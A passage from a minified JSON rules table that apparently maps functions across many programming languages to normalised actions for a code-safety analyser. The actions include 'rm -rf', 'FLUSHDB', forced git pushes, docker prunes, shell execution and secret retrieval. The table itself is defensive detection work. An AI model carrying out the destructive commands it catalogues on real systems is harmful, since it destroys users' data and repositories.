-fe_load_file":"read $0","Psych.load_file":"read $0","JSON.load_file":"read $0","CSV.read":"read $0","CSV.foreach":"read $0","CSV.table":"read $0","Dotenv.parse"\
-:"read $0","IniFile.load":"read $0","TomlRB.load_file":"read $0","PStore.new":"read $0","File.write":"write $0 $1","IO.write":"write $0 $1","File.delete":"run r\
-m $all","File.unlink":"run rm $all","FileUtils.rm":"run rm $all","FileUtils.remove":"run rm $all","Dir.rmdir":"run rmdir $0","Dir.delete":"run rmdir $0","Dir.un\
-link":"run rmdir $0","FileUtils.rm_f":"run rm -f $all","FileUtils.rm_r":"run rm -r $all","FileUtils.rm_rf":"run rm -rf $all","FileUtils.rmtree":"run rm -rf $all\
-","FileUtils.remove_dir":"run rm -rf $all","FileUtils.remove_entry":"run rm -rf $all","FileUtils.remove_entry_secure":"run rm -rf $all","FileUtils.mv":"run mv $\
-0 $1","File.rename":"run mv $0 $1","FileUtils.cp":"run cp $0 $1","FileUtils.cp_r":"run cp -r $0 $1","FileUtils.ln_s":"run ln -s $0 $1","File.symlink":"run ln -s\
- $0 $1","FileUtils.chmod":"chmod $1 $0","FileUtils.chmod_R":"run chmod -R $0 $1","FileUtils.chown_R":"run chown -R $0 $2","File.chmod":"chmod $1.. $0","File.cho\
-wn":"run chown $0 $2..","File.truncate":"run truncate -s 0 $0","File.join":"join $all","File.dirname":"dirname $0","Dir.home":"value ~","Dir.pwd":"value .","Dir\
-.mktmpdir":"calls-back new-folder","Dir.tmpdir":"value /tmp","Dir.glob":"calls-back glob $0","Pathname.glob":"calls-back glob $0","Dir.children":"names $0","Dir\
-.entries":"names $0","Dir.each_child":"names $0","Find.find":"calls-back folder $0","Process.kill":"kill $1.. $0","Process.uid":"value","fork":"if-sign:repeats \
-run fork","TCPSocket.new":"connect $all","TCPSocket.open":"connect $all"},"methods":{"collections":"if-made:mongo entries mongo","push":"if-says:^\\\\+refs run gi\
-t push --force origin","invoke":"if-made:rake run rake $origin","execute":"if-made:rake run rake $origin | sql $0","write":"send $self $0","puts":"send $self $0\
-","exec_params":"sql $0","query":"sql $0","async_exec":"sql $0","run":"sql $0","exec_query":"sql $0","exec":"if-made:ssh shell $0 | sql $0","method":"method $se\
-lf $0","const_get":"attribute $self $0","send":"message $self $0 $1..","public_send":"message $self $0 $1..","__send__":"message $self $0 $1..","then":"then","y\
-ield_self":"then","where":"if-made:some-rows value $self | if-name made some-rows","not":"if-made:some-rows value $self | if-name made some-rows","rewhere":"if-\
-made:some-rows value $self | if-name made some-rows","find_each":"calls-back if-made:some-rows value $self | if-name calls-back made rows","in_batches":"calls-b\
-ack if-made:some-rows value $self | if-name calls-back made rows","find_in_batches":"calls-back if-made:some-rows value $self | if-name calls-back made rows","u\
-pdate_all":"if-name run sql update-all $owner","destroy":"if-made:some-rows if-none run sql delete-some rows | if-sign:unconditional if-made:rows if-none run sq\
-l delete-all rows","destroy!":"if-made:some-rows if-none run sql delete-some rows | if-sign:unconditional if-made:rows if-none run sql delete-all rows","purge":\
-"if-made:some-rows if-none run sql delete-some rows | if-sign:unconditional if-made:rows if-none run sql delete-all rows","remove":"if-made:docker-volume run do\
-cker volume rm $self","open":"if-text calls-back open $self $0","descendants":"entries model","subclasses":"entries model","delete_all":"if-made:model run sql d\
-elete-all rows | if-name if-kept run sql delete-all $owner | run sql delete-some rows","destroy_all":"if-made:model run sql delete-all rows | if-name if-kept ru\
-n sql delete-all $owner | run sql delete-some rows","delete":"if-text if-none run rm $self | if-made:sequel if-none run sql delete-all rows | if-gets:keys run s\
-ql flush FLUSHDB | if-database if-none run sql delete-all $owner","unlink":"if-text if-none run rm $self | if-gets:keys run sql flush FLUSHDB","del":"if-gets:ke\
-ys run sql flush FLUSHDB","truncate":"if-made:sequel run sql truncate rows","tap":"calls-back value $self","freeze":"value $self","dup":"value $self","clone":"v\
-alue $self","compact":"value $self","uniq":"value $self","sort":"value $self","to_a":"value $self","flatten":"value $self","to_set":"value $self","clear":"if-ma\
-de:sidekiq run celery purge","database":"if-made:mongo value $self","use":"if-made:mongo value $self","drop":"if-made:mongo run sql drop-database db","exec!":"i\
-f-made:ssh shell $0","eval":"if-content eval $self | if-text eval $self","class_eval":"if-arg:content eval $0 | if-arg:text eval $0","module_eval":"if-arg:conte\
-nt eval $0 | if-arg:text eval $0","instance_eval":"if-arg:content eval $0 | if-arg:text eval $0","update":"if-made:sequel run sql update-all rows","reset":"if-s\
-ays:^hard$ if-args:2 run git reset --hard","from":"if-made:sequel value $self","keys":"calls-back if-stored entries keys","scan_each":"calls-back if-stored entr\
-ies keys","rmtree":"if-text run rm -rf $self","children":"folder $self","each_child":"folder $self","gets":"if-made:peer received | if-made:connection received \
-| if-list any-of $self","readline":"if-made:peer received | if-made:connection received","readpartial":"if-made:peer received | if-made:connection received","re\
-cv":"if-made:peer received | if-made:connection received","recv_nonblock":"if-made:peer received | if-made:connection received","read_nonblock":"if-made:peer re\
-ceived | if-made:connection received","read":"if-made:peer received | if-made:connection received | lines $self","accept":"made peer","accept_nonblock":"made pe\
-er","shift":"if-list any-of $self","first":"at 0 $self","last":"at -1 $self","fetch":"entry $self $0 | if-map environment $0 $1","each_pair":"if-map pairs $self\
-","values":"if-map values $self","each_value":"if-map values $self"}},"other":{"lexer":{"comment":["//"],"sigils":"","interpolation":"none","triple":false,"sing\
-le_escapes":true,"quoting":"none","patterns":false,"lines":"statements"},"program":"node","blocks":"braces","member_operators":[".","?."],"concatenation_operato\
-rs":[],"bare_calls":false,"function_keywords":["function"],"inputs":{"os.Args":"argv","sys.env":"environment","System.environment":"environment"},"sdks":[],"tex\
-ts":{"os.pwd":".","os.home":"~","FileManager.default.homeDirectoryForCurrentUser":"~","URL.homeDirectory":"~","FileManager.default.temporaryDirectory":"/tmp/tem\
-porary","URL.temporaryDirectory":"/tmp/temporary","Directory.systemTemp":"/tmp/temporary","Directory.current":".","FileManager.default.currentDirectoryPath":"."\
-},"aliases":{},"rewrites":[["^(?:(?:System\\\\.IO|std|tokio|java|async_std|fs_err|experimental|filesystem|(?:n?io|file)(?=\\\\.\\\\w+\\\\.))\\\\.)+(?=\\\\w)",""]],"function\
-s":{"print":"print","println":"print","console.log":"print","redis.call":"if-says:^(flush|FLUSH) run sql flush $0","redis.pcall":"if-says:^(flush|FLUSH) run sql\
- flush $0","string.char":"characters $all","table.concat":"join-texts $0 $1","strings.Join":"join-texts $0 $1","string.upper":"fold upper $0","string.lower":"fo\
-ld lower $0","c":"value $all","list":"value $all","List.of":"value $all","Set.of":"value $all","listOf":"value $all","setOf":"value $all","arrayOf":"value $all"\
-,"mutableListOf":"value $all","Arrays.asList":"value $all","Seq":"value $all","List":"value $all","Set":"value $all","Vector":"value $all","Array":"value $all",\
-"Stream.of":"value $all","List.toList":"value $all","IO.inspect":"value $all","ipairs":"value $all","pairs":"value $all","Command.new":"value $all","String.to_a\
-tom":"value $0","String.to_existing_atom":"value $0","expand_file_name":"value $0","file_truename":"value $0","vim.fn.expand":"value $0","vim.fs.normalize":"val\
-ue $0","Path.toFile":"value $0","File.toPath":"value $0","Path.toString":"value $0","File.new":"value $0","Directory":"value $0","Directory.new":"value $0","Dir\
-ectoryInfo":"value $0","FileInfo":"value $0","URL":"value $0","URI":"value $0","URI.create":"value $0","Uri.parse":"value $0","Uri.unsafeParse":"value $0","expa\
-nd_path":"value $0","Path.expand":"value $0","abspath":"value $0","normpath":"value $0","opendir":"value $0","filepath.Abs":"value $0","filepath.Clean":"value $\
-0","os.ExpandEnv":"value $0","std.string":"value $0","string":"value $0","String.valueOf":"value $0","Process":"value $0","Cmd":"value $0","must":"value $0","fi\
-lepath.Join":"join $all","path.Join":"join $all","path.join":"join $all","Paths.get":"join $all","Path.of":"join $all","Path.Combine":"join $all","Path.join":"j\
-oin $all","File":"join $all","joinpath":"join $all","filename.join":"join $all","file.path":"join $all","path":"join $all","fs.path":"join $all","PathBuf.from":\
-"join $all","Path.new":"join $all","Path":"join $all","os.Path":"join $all","join_path":"join $all","path_join":"join $all","Path.Join":"join $all","home_dir":"\
-value ~","dirs.home_dir":"value ~","home.home_dir":"value ~","os.UserHomeDir":"value ~","UserHomeDir":"value ~","homedir":"value ~","path_home":"value ~","Syste\
-m.user_home":"value ~","user_home":"value ~","NSHomeDirectory":"value ~","FileManager.default.homeDirectoryForCurrentUser":"value ~","getHomeDir":"value ~","os.\
-Getwd":"value .","pwd":"value .","getwd":"value .","File.cwd":"value .","os.pwd":"value .","getCurrentDir":"value .","env.current_dir":"value .","Dir.pwd":"valu\
-e .","lfs.currentdir":"value .","os.Getenv":"environment $0","System.getenv":"environment $0","System.getProperty":"environment $0","os.getenv":"environment $0"\
-,"getenv":"environment $0","Sys.getenv":"environment $0","env.var":"environment $0","System.get_env":"environment $0","make_temp_file":"value /tmp/\\ufffc","os.M\
-kdirTemp":"value /tmp/\\ufffc","ioutil.TempDir":"value /tmp/\\ufffc","os.CreateTemp":"value /tmp/\\ufffc","tempfile.tempdir":"value /tmp/\\ufffc","tempdir":"value /\
-tmp/\\ufffc","tempfile":"value /tmp/\\ufffc","mktempdir":"value /tmp/\\ufffc","mktemp":"value /tmp/\\ufffc","tempname":"value /tmp/\\ufffc","os.tmpname":"value /tmp/\
-\\ufffc","os.TempDir":"value /tmp/\\ufffc","env.temp_dir":"value /tmp/\\ufffc","TempDir.new":"value /tmp/\\ufffc","tempfile.Builder.new":"value /tmp/\\ufffc","Files.\
-createTempDirectory":"value /tmp/\\ufffc","Files.createTempFile":"value /tmp/\\ufffc","createTempDir":"value /tmp/\\ufffc","createTempDirectory":"value /tmp/\\ufffc\
-","createTempFile":"value /tmp/\\ufffc","File.createTempFile":"value /tmp/\\ufffc","File.createTempDir":"value /tmp/\\ufffc","os.temp.dir":"value /tmp/\\ufffc","os.\
-temp":"value /tmp/\\ufffc","Directory.systemTemp.createTemp":"value /tmp/\\ufffc","Directory.systemTemp.createTempSync":"value /tmp/\\ufffc","FileManager.default.t\
-emporaryDirectory":"value /tmp/\\ufffc","NSTemporaryDirectory":"value /tmp/\\ufffc","Path.GetTempPath":"value /tmp/\\ufffc","Path.GetTempFileName":"value /tmp/\\uff\
-fc","System.tmp_dir":"value /tmp/\\ufffc","mkdtemp":"value /tmp/\\ufffc","tmpnam":"value /tmp/\\ufffc","Briefly.create":"value /tmp/\\ufffc","getTempDir":"value /tm\
-p/\\ufffc","rm":"if-option:recursive=true run rm -rf $0 | run rm $0","file.remove":"run rm $0","os.Remove":"run rm $0","fs.remove_file":"run rm $0","Files.delete\
-":"run rm $0","Files.deleteIfExists":"run rm $0","unlink":"run rm $0","remove":"run rm $0","os.remove":"run rm $0","os.remove.file":"run rm $0","File.rm":"run r\
-m $0","File.Delete":"run rm $0","file.delete":"run rm $0","File.delete":"run rm $0","vim.uv.fs_unlink":"run rm $0","vim.loop.fs_unlink":"run rm $0","file_delete\
-":"run rm $0","removeFile":"run rm $0","remove_file":"run rm $0","deleteFile":"run rm $0","delete-file":"run rm $0","delete_file":"run rm $0","vim.fn.delete":"r\
-un rm -rf $0","vim.fs.rm":"run rm -rf $0","os.RemoveAll":"run rm -rf $0","fs.remove_dir_all":"run rm -rf $0","Files.remove_all":"run rm -rf $0","remove_all":"ru\
-n rm -rf $0","FileUtils.deleteDirectory":"run rm -rf $0","FileUtils.deleteQuietly":"run rm -rf $0","FileUtils.forceDelete":"run rm -rf $0","FileUtils.cleanDirec\
-tory":"run rm -rf $0","File.rm_rf":"run rm -rf $0","file.del_dir_r":"run rm -rf $0","Directory.Delete":"run rm -rf $0","dir_delete":"run rm -rf $0","os.remove.a\
-ll":"run rm -rf $0","removeDir":"run rm -rf $0","removeDirectoryRecursive":"run rm -rf $0","removePathForcibly":"run rm -rf $0","rm_rf":"run rm -rf $0","delete-\
-directory":"run rm -rf $0","delete_directory":"run rm -rf $0","remove_dir_all":"run rm -rf $0","delete_directory_tree":"run rm -rf $0","delete_tree":"run rm -rf\
- $0","delete_directory_files":"run rm -rf $0","fs.rm_rf":"run rm -rf $0","FileUtils.deleteTree":"run rm -rf $0","deltree":"run rm -rf $0","gen_tcp.recv":"receiv\
-ed","require":"module $0","SqlCommand":"sql $0","NpgsqlCommand":"sql $0","MySqlCommand":"sql $0","SqliteCommand":"sql $0","OracleCommand":"sql $0","OleDbCommand\
-":"sql $0","OdbcCommand":"sql $0","setuid":"run setuid $0","seteuid":"run setuid $0","syscall.Setuid":"run setuid $0","unix.Setuid":"run setuid $0","setreuid":"\
-run setuid $last","setresuid":"run setuid $last","lfs.rmdir":"run rmdir $0","rmdir":"run rmdir $0","fs.remove_dir":"run rmdir $0","File.rmdir":"run rmdir $0","f\
-ile.del_dir":"run rmdir $0","os.remove.dir":"run rmdir $0","system":"shell $0","popen":"shell $0","os.execute":"shell $0","io.popen":"shell $0","shell":"shell $\
-0","os.cmd":"shell $0","System.shell":"shell $0","Runtime.exec":"shell $0","execShellCmd":"shell $0","execCmd":"shell $0","execCmdEx":"shell $0","staticExec":"s\
-hell $0","spawnCommand":"shell $0","shell_command":"shell $0","shell_command_to_string":"shell $0","async_shell_command":"shell $0","uiop.run_program":"shell $0\
-","run_program":"shell $0","run_shell_command":"shell $0","run":"shell $0","callCommand":"shell $0","success":"shell $0","readchomp":"shell $0","sh":"program $a\
-ll","call_process":"program $all","start_process":"program $all","exec.Command":"program $all","exec.CommandContext":"program $all","ProcessBuilder":"program $a\
-ll","os.proc":"program $all","spawn":"spawn $0 $1","system2":"spawn $0 $1","System.cmd":"spawn $0 $1","Process.run":"spawn $0 $1","Process.runSync":"spawn $0 $1\
-","Process.start":"spawn $0 $1","Process.Start":"spawn $0 $1","execl":"execute $0 $1..","execlp":"execute $0 $1..","execv":"execute $0 $1..","execvp":"execute $\
-0 $1..","execve":"execute $0 $1..","kill":"kill $0 $1","syscall.Kill":"kill $0 $1","writeFile":"write $0 $1","os.WriteFile":"write $0 $1","ioutil.WriteFile":"wr\
-ite $0 $1","fs.write":"write $0 $1","Files.writeString":"write $0 $1","Files.write":"write $0 $1","File.write":"write $0 $1","spit":"write $0 $1","File.WriteAll\
-Text":"write $0 $1","File.WriteAllLines":"write $0 $1","File.WriteAllBytes":"write $0 $1","write_file":"write $0 $1","os.write.over":"write $0 $1","File.AppendA\
-llText":"write $0 $1 append","File.AppendAllLines":"write $0 $1 append","writeLines":"write $1 $0","fopen":"open $0 $1","io.open":"open $0 $1","File.open":"open\
- $0 $1","open":"open $0 $1 flags","os.OpenFile":"open $0 $1 flags","cat":"if-option:file write $:file $0","os.Create":"open $0 w","File.create":"open $0 w","Fil\
-eWriter":"open $0 w","PrintWriter":"open $0 w","FileOutputStream":"open $0 w","os.Truncate":"run truncate -s 0 $0","truncate":"run truncate -s 0 $0","os.ReadFil\
-e":"read $0","ioutil.ReadFile":"read $0","os.Open":"read $0","fs.read":"read $0","fs.read_to_string":"read $0","Files.readString":"read $0","Files.readAllBytes"\
-:"read $0","Files.readAllLines":"read $0","File.read":"read $0","File.ReadAllText":"read $0","upload_file":"read $0","readLines":"read $0","read_file":"read $0"\
-,"FileInputStream":"read $0","FileReader":"read $0","File.ReadAllLines":"read $0","File.ReadAllBytes":"read $0","File.ReadLines":"read $0","File.OpenText":"read\
- $0","File.OpenRead":"read $0","StreamReader":"read $0","godotenv.Read":"read $0","toml.DecodeFile":"read $0","ini.Load":"read $0","readRDS":"read $0","read_yam\
-l":"read $0","read_json":"read $0","fromJSON":"read $0","read.csv":"read $0","read.table":"read $0","readr::read_file":"read $0","TOML.parsefile":"read $0","YAM\
-L.load_file":"read $0","JSON.parsefile":"read $0","readdlm":"read $0","String.contentsOfFile":"read $0","Data.contentsOf":"read $0","slurp":"read $0","HttpReque\
-st.BodyPublishers.ofFile":"read $0","BodyPublishers.ofFile":"read $0","File.read_to_string":"read $0","os.ReadDir":"names $0","ioutil.ReadDir":"names $0","lfs.d\
-ir":"names $0","File.ls":"names $0","readdir":"names $0","listdir":"names $0","Directory.GetFiles":"folder $0","Directory.GetDirectories":"folder $0","Directory\
-.EnumerateFiles":"folder $0","Directory.EnumerateDirectories":"folder $0","directory_files":"folder $0","list.files":"folder $0","list.dirs":"folder $0","dir_ls\
-":"folder $0","fs.read_dir":"folder $0","os.list":"folder $0","Files.list":"folder $0","directory_iterator":"folder $0","directory_files_recursively":"folder $0\
- below","WalkDir.new":"folder $0 below","os.walk":"folder $0 below","Files.walk":"folder $0 below","recursive_directory_iterator":"folder $0 below","walkdir.Wal\
-kDir.new":"folder $0 below","filepath.Walk":"calls-back folder $0 below","filepath.WalkDir":"calls-back folder $0 below","nftw":"calls-back folder $0 below","ft\
-w":"calls-back folder $0 below","walkdir":"walk $0","filelib.wildcard":"glob $0","filepath.Glob":"glob $0","glob":"glob $0","Sys.glob":"glob $0","glob.glob":"gl\
-ob $0","Path.wildcard":"glob $0","any_of":"any-of $0","filepath.Dir":"dirname $0","dirname":"dirname $0","Path.dirname":"dirname $0","fmt.Sprintf":"format $0 $1\
-..","format":"format $0 $1..","String.format":"format $0 $1..","string.format":"format $0 $1..","sprintf":"format $0 $1..","strings.Fields":"split $0","words":"\
-split $0","String.split":"split $0","OptionParser.split":"split $0","shellwords.split":"split $0","shlex.split":"split $0","lapply":"map $1 $0","sapply":"map $1\
- $0","vapply":"map $1 $0","walk":"map $1 $0","Enum.each":"map $1 $0","Enum.map":"map $1 $0","Task.async_stream":"map $1 $0","lists.foreach_":"map $1 $0","for_ea\
-ch":"map $0 $1","mapc":"map $0 $1","mapcar":"map $0 $1","foreach":"map $0 $1","map":"map $0 $1","lists.foreach":"map $0 $1","lists.map":"map $0 $1","pcall":"inv\
-oke $0","dbExecute":"sql $0 | sql $1","dbSendQuery":"sql $0 | sql $1","dbGetQuery":"sql $0 | sql $1","dbSendStatement":"sql $0 | sql $1","execute":"sql $0 | sql\
- $1","DBInterface.execute":"sql $0 | sql $1","SQLite.execute":"sql $0 | sql $1","SQL.query":"sql $0 | sql $1","query":"sql $0 | sql $1","LibPQ.execute":"sql $0 \
-| sql $1","spark.sql":"sql $0 | sql $1","sqlContext.sql":"sql $0 | sql $1","sqlx.query":"sql $0 | sql $1","diesel.sql_query":"sql $0 | sql $1","mysql_query":"sq\
-l $0 | sql $1","PQexec":"sql $0 | sql $1","sqlite3_exec":"sql $0 | sql $1","sql_query":"sql $0 | sql $1","drive_rm":"run cloud-sdk delete","googledrive.drive_rm\
-":"run cloud-sdk delete","bq_table_delete":"run cloud-sdk delete","bq_dataset_delete":"run cloud-sdk delete","delete_bucket":"run cloud-sdk delete","aws.s3.dele\
-te_bucket":"run cloud-sdk delete","dbRemoveTable":"run sql drop-table rows","mnesia.delete_table":"run sql drop-table rows","mnesia.clear_table":"run sql drop-t\
-able rows","mnesia.delete_schema":"run sql drop-schema db","code.load_binary":"eval $2","socket.http.request":"request GET $0","ssl.https.request":"request GET \
-$0","http.Get":"request GET $0","reqwest.get":"request GET $0","GET":"request GET $0","httpc.request":"request GET $0","httpc_get":"request GET $0","http.get":"\
-request GET $0","POST":"request POST $0 $1 $:body","PUT":"request POST $0 $1 $:body","http.request":"request POST $0 $1 $:body","httr.POST":"request POST $0 $1 \
-$:body","HTTP.post":"request POST $0 $1 $:body","HTTPoison.post":"request POST $0 $1 $:body","Req.post":"request POST $0 $1 $:body","httpc_post":"request POST $\
-0 $1 $:body","http.Post":"request POST $0 $2","http.PostForm":"request POST $0 $2","HttpRequest.newBuilder":"made request $0","Request.post":"made request $0","\
-jenkinsItems":"made jenkins","ArmClient":"made service","CosmosClient":"made service","BlobServiceClient":"made service","TableServiceClient":"made service","Qu\
-eueServiceClient":"made service","ShareServiceClient":"made service","SecretClient":"made service","KeyClient":"made service","AmazonS3Client":"made service","A\
-mazonDynamoDBClient":"made service","AmazonEC2Client":"made service","FileSystem.get":"made service","FileSystem.newInstance":"made service","clientv3.New":"mad\
-e service","storage.NewClient":"made service","ldap.DialURL":"made service"},"methods":{"apply":"value $self","also":"value $self","use":"value $self","let":"va\
-lue $self","run":"value $self","onEnter":"value $self","sorted":"value $self","sort":"value $self","toList":"value $self","toMutableList":"value $self","stream"\
-:"value $self","iter":"value $self","into_iter":"value $self","iter_mut":"value $self","collect":"value $self","unwrap":"value $self","unwrap_or_default":"value\
- $self","expect":"value $self","ok":"value $self","clone":"value $self","cloned":"value $self","as_path":"value $self","to_path_buf":"value $self","to_str":"val\
-ue $self","to_string":"value $self","toString":"value $self","path":"value $self","toPath":"value $self","toFile":"value $self","toURL":"value $self","into_path\
-":"value $self","filter_map":"value $self","filter_entry":"value $self","take":"value $self","skip":"value $self","lines":"value $self","get":"value $self","awa\
-it":"value $self","toAbsolutePath":"value $self","normalize":"value $self","iterator":"value $self","asSequence":"value $self","parallelStream":"value $self","t\
-oArray":"value $self","max_depth":"value $self","min_depth":"value $self","standardizedFileURL":"value $self","toSet":"value $self","as_ref":"value $self","as_s\
-tr":"value $self","to_owned":"value $self","into":"value $self","del":"if-gets:keys run sql flush FLUSHDB","delete":"if-gets:keys run sql flush FLUSHDB | if-mad\
-e:jenkins run cloud-sdk delete | if-made:request request DELETE $origin | if-text if-option:recursive=true run rm -rf $self | if-text run rm -r $self","unlink":\
-"if-gets:keys run sql flush FLUSHDB | if-text run rm -r $self","scan_iter":"if-stored entries keys","keys":"if-stored entries keys","scan":"if-stored entries ke\
-ys","storage_down":"run sql drop-database db","drop_database":"run sql drop-database db","dropDatabase":"run sql drop-database db","execute":"if-text shell $sel\
-f | if-list shell $self | sql $0 | sql $1","status":"if-list shell $self","output":"if-list shell $self","spawn":"if-list shell $self","start":"if-list shell $s\
-elf","Run":"if-list shell $self","Output":"if-list shell $self","CombinedOutput":"if-list shell $self","Start":"if-list shell $self","exec":"if-list shell $self\
- | sql $0 | sql $1","call":"if-list shell $self","arg":"concatenate $self $all","args":"concatenate $self $all","removeItem":"run rm -rf $0:at:atPath","trashIte\
-m":"run rm -rf $0:at:atPath","rm_rf":"run rm -rf $self","deleteRecursively":"run rm -rf $self","deleteDir":"run rm -rf $self","delete_recursively":"run rm -rf $\
-self","deleteOnExitRecursively":"run rm -rf $self","doDelete":"if-made:jenkins run cloud-sdk delete","wildcard":"glob $self","DELETE":"if-made:request request D\
-ELETE $origin","getPlainText":"run Get-Secret","receive":"if-sign:network received","recv":"if-sign:network received","ReadString":"if-sign:network received","R\
-eadBytes":"if-sign:network received","ReadLine":"if-sign:network received","readLine":"if-sign:network received","ReadLineAsync":"if-sign:network received","For\
-mValue":"if-sign:network received","PostFormValue":"if-sign:network received","read_line":"if-sign:network received","Push":"if-option:Force=true run git push -\
--force","PushContext":"if-option:Force=true run git push --force","ContainerRemove":"run docker rm -f $1","VolumeRemove":"run docker volume rm $1","VolumesPrune\
-":"run docker volume prune -af","SystemPrune":"run docker system prune -af","deleteSync":"if-made:request request DELETE $origin | if-text if-option:recursive=t\
-rue run rm -rf $self | if-text run rm -r $self","rm":"if-text run rm -r $self","Delete":"if-text run rm -r $self","deleteIfExists":"if-text run rm -r $self","re\
-solve":"join $self $0","appendingPathComponent":"join $self $0","appending":"join $self $0","child":"join $self $0","div":"join $self $0","join":"join $self $0"\
-,"listFiles":"folder $self","list":"folder $self","listSync":"folder $self","children":"folder $self","read_dir":"folder $self","GetFiles":"folder $self","GetDi\
-rectories":"folder $self","EnumerateFiles":"folder $self","EnumerateDirectories":"folder $self","walk":"folder $self below","walkTopDown":"folder $self below","\
-walkBottomUp":"folder $self below","contentsOfDirectory":"folder $0:at:atPath","enumerator":"folder $0:at:atPath","writeText":"write $self $0","writeString":"wr\
-ite $self $0","writeAsString":"write $self $0","writeAsStringSync":"write $self $0","writeBytes":"write $self $0","setText":"write $self $0","appendText":"write\
- $self $0 append","printWriter":"open $self w","bufferedWriter":"open $self w","writer":"open $self w","outputStream":"open $self w","readText":"read $self","re\
-adAsString":"read $self","readAsStringSync":"read $self","readBytes":"read $self","readLines":"read $self","inputStream":"read $self","getText":"read $self","wr\
-ite":"send $self $0","body":"send $self $0","puts":"send $self $0","POST":"send $self $0","PUT":"send $self $0","read":"lines $self","post":"open-request POST $\
-0","uri":"made request $0","url":"made request $0","Exec":"sql $0 | sql $1","ExecContext":"sql $0 | sql $1","Query":"sql $0 | sql $1","QueryContext":"sql $0 | s\
-ql $1","QueryRow":"sql $0 | sql $1","MustExec":"sql $0 | sql $1","executeUpdate":"sql $0 | sql $1","executeQuery":"sql $0 | sql $1","executeLargeUpdate":"sql $0\
- | sql $1","addBatch":"sql $0 | sql $1","prepareStatement":"sql $0 | sql $1","prepare":"sql $0 | sql $1","query":"sql $0 | sql $1","execSQL":"sql $0 | sql $1","\
-ExecuteNonQuery":"sql $0 | sql $1","executeSql":"sql $0 | sql $1","rawQuery":"sql $0 | sql $1","update":"sql $0 | sql $1","batch_execute":"sql $0 | sql $1","sim\
-ple_query":"sql $0 | sql $1"}}},"dialects":{"lua":{"comment":"--\\\\[\\\\[[\\\\s\\\\S]*?\\\\]\\\\]|--[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\\\\\n]\
-|\\\\\\\\[\\\\s\\\\S])*)'|\\\\[\\\\[([\\\\s\\\\S]*?)\\\\]\\\\]","rewrites":[["lfs\\\\.(?:symlink)?attributes\\\\s*\\\\(([^()]*)\\\\)(?:\\\\.mode)?\\\\s*[=~]=\\\\s*\\"\\\\d+\\"","isDirectory($1)"],["\
-\\\\.\\\\.(?!\\\\.)","+"],["\\\\blocal\\\\s+(?=function\\\\b)",""],["\\\\blocal\\\\s+(\\\\w+(?:\\\\s*,\\\\s*\\\\w+)+)\\\\s*=\\\\s*(\\"\\\\d+\\"(?:\\\\s*,\\\\s*\\"\\\\d+\\")+)","[$1] = [$2];"],["~=","!\
-="],["\\\\b(os\\\\.(?:execute|remove|getenv)|io\\\\.(?:popen|open)|require)\\\\s*(\\"\\\\d+\\")","$1($2)"],["([\\\\w)]):(\\\\w+)\\\\s*(?=\\\\()","$1.$2"],["(=\\\\s*|\\\\(\\\\s*|,\\\\s*|\\\\b\
-in\\\\s+|\\\\breturn\\\\s+|\\\\{\\\\s*)\\\\{([^{};=]*)\\\\}","$1[$2]"],["(=\\\\s*|\\\\(\\\\s*|\\\\breturn\\\\s+)\\\\{((?:[^{};=]|\\\\[[^\\\\]]*\\\\])*)\\\\}","$1[$2]"],["\\\\bfor\\\\s+(?:\\\\w+\\\\s*,\\\\\
-s*)?(\\\\w+)\\\\s+in\\\\s+","for $1 of "],["\\\\bfunction\\\\b\\\\s*((?:\\\\w+\\\\.)*\\\\w+)?\\\\s*(\\\\([^()]*\\\\))","function $1$2 {"],["function (?:\\\\w+\\\\.)+","function "],["\\\\b(?:\
-then|do|repeat)\\\\b","{"],["\\\\belseif\\\\b","} else if"],["\\\\belse\\\\b","} else {"],["\\\\b(?:end|until)\\\\b","}"]]},"r":{"comment":"#[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]\
-|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)'","rewrites":[["\\\\b(?:library|require|suppressPackageStartupMessages)\\\\([^()]*\\\\);?",""],["\\\\brm\\\\s*\\\\(","forge\
-t("],["\\\\b(?:base|fs|httr2?|DBI|utils|tools|purrr|paws|yaml|jsonlite|readr)::",""],["(?<=[\\\\w)\\\\]])\\\\$(?=[A-Za-z_.])","."],["\\\\bunlink\\\\b","rm_rf"],["\\\\bfile\\\\.\
-exists\\\\b|\\\\bdir\\\\.exists\\\\b","isDirectory"],["<<?-","="],["(?:\\\\|>|%>%)\\\\s*([\\\\w.]+)\\\\s*\\\\(",".$1("],["\\\\blist\\\\(\\\\s*\\\\w+\\\\s*=\\\\s*","list("],["([(,]\\\\s*)([\\\\w.\
-]+)\\\\s*=(?!=)","$1$2: "],["(?<![\\\\w.])([\\\\w.]{1,60}) {0,4}= {0,4}function\\\\s*\\\\(","function $1("],["(?:\\\\bfunction|\\\\\\\\)\\\\s*(\\\\([^()]*\\\\))\\\\s*(?!\\\\{)","$1 => "]\
-,["\\\\bfor\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s+in\\\\s","for ($1 of "],["\\\\bfile\\\\.path\\\\b","join_path"],["\\\\bjoin_path\\\\(([^(),]*(?:\\\\([^()]*\\\\))?),\\\\s*(c\\\\([^()]*\\\\))\\\\)","$2.ma\
-p((it) => join_path($1, it))"],["\\\\bpaste0\\\\(([^(),]*),\\\\s*([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2 + $3)"],["\\\\bpaste0\\\\(([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2)"],\
-["\\\\bpaste\\\\(([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + \\" \\" + $2)"]]},"julia":{"comment":"#=[\\\\s\\\\S]*?=#|#[^\\\\n]*","texts":"\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b(?:raw|sql)\
-)?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|\`([^\`]*)\`|(?<![\\\\w)\\\\]])'((?:[^'\\\\\\\\]|\\\\\\\\.)*)'","inserts":"\\\\$\\\\(?([\\\\w.]+(?:\\\\([^()]*\\\\))?)\\\\)?","rewrites":[["^[ \\\\t]*(?:\
-using|import)\\\\b[^\\\\n;]*",""],["(\\\\w)!(?=\\\\()","$1"],["\\\\bforeach\\\\(","map("],["\\\\b(\\\\w+)\\\\.\\\\(([^(),]*(?:\\\\(\\\\))?),\\\\s*(\\\\[[^\\\\[\\\\]]*\\\\])\\\\)","$3.map((it) => $\
